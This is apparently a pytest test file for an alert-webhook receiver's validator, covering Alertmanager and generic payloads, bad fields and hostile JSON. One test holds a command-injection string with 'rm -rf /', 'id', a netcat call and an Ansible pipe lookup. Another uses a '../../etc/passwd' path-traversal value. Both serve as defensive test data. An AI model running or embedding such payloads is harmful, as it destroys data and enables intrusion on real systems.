import json

import pytest

from incident_receiver import validate
from incident_receiver.validate import Invalid


def am(**over):
    alert = {"status": "firing", "labels": {"alertname": "ServiceDown", "job": "api", "severity": "P0"},
             "annotations": {"summary": "api down"}, "startsAt": "2026-11-23T10:00:00.123456789Z",
             "endsAt": "0001-01-01T00:00:00Z", "fingerprint": "3f2a9c0d1e2b4a5c", "generatorURL": "http://x/graph"}
    doc = {"version": "4", "status": "firing", "receiver": "incident-webhook", "groupKey": "{}:{alertname=\"X\"}",
           "groupLabels": {"alertname": "ServiceDown"}, "commonLabels": {}, "alerts": [alert]}
    doc.update(over)
    return doc


def test_alertmanager_v4_is_normalised():
    [alert] = validate.alertmanager(am())
    assert alert["alertname"] == "ServiceDown" and alert["fingerprint"] == "3f2a9c0d1e2b4a5c"
    assert alert["labels"]["job"] == "api" and alert["starts_at"].startswith("2026-11-23T10:00:00")
    assert alert["group_key"].startswith("{}:")


@pytest.mark.parametrize("doc, reason", [
    ([], "body: expected an object, got a list"),
    (am(version=4), "version: expected \"4\""),
    (am(version="3"), "version: expected \"4\""),
    (am(status="ok"), "status: expected one of firing|resolved"),
    (am(alerts={}), "alerts: expected a list, got an object"),
    (am(alerts=[]), "alerts: empty list"),
    (am(alerts=["x"]), "alerts[0]: expected an object, got a string"),
    (am(alerts=[{"status": "firing", "labels": {"job": "api"}}]), "alerts[0].labels.alertname: missing"),
    (am(alerts=[{"status": "firing", "labels": {"alertname": 5}}]), "alerts[0].labels.alertname: expected a string, got a number"),
    (am(alerts=[{"status": "firing", "labels": {"alertname": True}}]), "expected a string, got a boolean"),
    (am(alerts=[{"status": "firing", "labels": {"alertname": "X"}, "startsAt": "yesterday"}]), "RFC 3339"),
    (am(alerts=[{"status": "firing", "labels": {"alertname": "X"}, "fingerprint": "../../etc/passwd"}]),
     "fingerprint: expected 1-128 characters"),
    (am(alerts=[{"status": "firing", "labels": {"alertname": "X\x00"}}]), "NUL"),
    (am(alerts=[{"status": "firing", "labels": {"alertname": "X", "": "v"}}]), "empty"),
    (am(alerts=[{"status": "firing", "labels": {"alertname": "X", "__ansible_vault": "v"}}]), "reserved"),
    (am(alerts=[{"status": "firing", "labels": {"alertname": "X"}, "annotations": {"__ansible_unsafe": "v"}}]),
     "reserved"),
    (am(alerts=[{"status": "firing", "labels": {"alertname": "X"}, "fingerprint": "abc\n"}]), "fingerprint"),
    (am(alerts=[{"status": "firing", "labels": {"alertname": "X"}, "startsAt": "2026-01-01T00:00:00Z\n"}]),
     "RFC 3339"),
])
def test_bad_alertmanager_payloads_name_the_field(doc, reason):
    with pytest.raises(Invalid) as err:
        validate.alertmanager(doc)
    assert reason in str(err.value)


@pytest.mark.parametrize("raw", [b"", b"{", b"{'a': 1}", b"\xff\xfe", b"[1,2", b"NaN-ish"])
def test_malformed_json(raw):
    with pytest.raises(Invalid):
        validate.parse_json(raw)


def test_shell_metacharacters_are_kept_verbatim():
    evil = "$(rm -rf /); `id` | nc 10.0.0.1 && {{ lookup('pipe','id') }} ' \" \\ \n"
    [alert] = validate.generic({"alertname": "X", "labels": {"service": evil}, "summary": evil})
    assert alert["labels"]["service"] == evil and alert["annotations"]["summary"] == evil


def test_generic_alert_shortcuts_and_stable_fingerprint():
    [alert] = validate.generic({"alertname": "DiskSpaceLow", "severity": "SEV2", "service": "api"})
    assert alert["status"] == "firing" and alert["labels"] == {"alertname": "DiskSpaceLow", "severity": "SEV2",
                                                               "service": "api"}
    assert alert["fingerprint"] == validate.fingerprint_of(alert["labels"]) and len(alert["fingerprint"]) == 16
    [again] = validate.generic({"labels": {"service": "api", "severity": "SEV2", "alertname": "DiskSpaceLow"}})
    assert again["fingerprint"] == alert["fingerprint"]


@pytest.mark.parametrize("doc, reason", [
    ({}, "alertname: missing"),
    ({"alertname": 1}, "alertname: expected a string"),
    ({"alertname": "X", "status": "closed"}, "status: expected one of"),
    ({"alertname": "X", "labels": []}, "labels: expected an object"),
    ({"alertname": "X", "annotations": {"a": {"b": 1}}}, "annotations.a: expected a string"),
])
def test_bad_generic_alerts(doc, reason):
    with pytest.raises(Invalid) as err:
        validate.generic(doc)
    assert reason in str(err.value)


def test_reason_does_not_echo_huge_values():
    with pytest.raises(Invalid) as err:
        validate.alertmanager(am(version="x" * 10000))
    assert len(str(err.value)) < 200
    json.dumps(str(err.value))


def test_nothing_but_the_body_size_caps_a_notification():
    """A 4xx is never retried by Alertmanager: many alerts, many labels, long values, UTF-8 label names
    (Prometheus 3) all pass."""
    alert = {"status": "firing", "labels": dict({"alertname": "X", "service.name": "api", "é": "ü"},
                                                **{"l%d" % i: "v" for i in range(100)}),
             "annotations": {"description": "d" * 100000, "{{ 7 * 6 }}": "k"}}
    alerts = validate.alertmanager(am(alerts=[alert] * 2000))
    assert len(alerts) == 2000 and alerts[0]["labels"]["service.name"] == "api"


@pytest.mark.parametrize("raw, reason", [
    (b'{"a": ' + b"[" * 5000 + b"]" * 5000 + b"}", "nested deeper than 32"),
    (b"[" * 33 + b"]" * 33, "nested deeper than 32"),
    (b'{"alerts": [{"labels": {"x": "\\ud800"}}]}', "lone surrogate"),
    (b'{"\\udfff": 1}', "lone surrogate"),
])
def test_hostile_json_is_invalid_not_a_crash(raw, reason):
    with pytest.raises(Invalid) as err:
        validate.parse_json(raw)
    assert reason in str(err.value)


def test_valid_json_strings_pass_unchanged():
    doc = validate.parse_json(b'{"a": ["\\ud83d\\ude00", "\\\\ud800", "yes", "~", "\\u0000x"], "b": ' + b"[" * 31 + b"]" * 31 + b"}")
    assert doc["a"] == ["\U0001F600", "\\ud800", "yes", "~", "\x00x"]
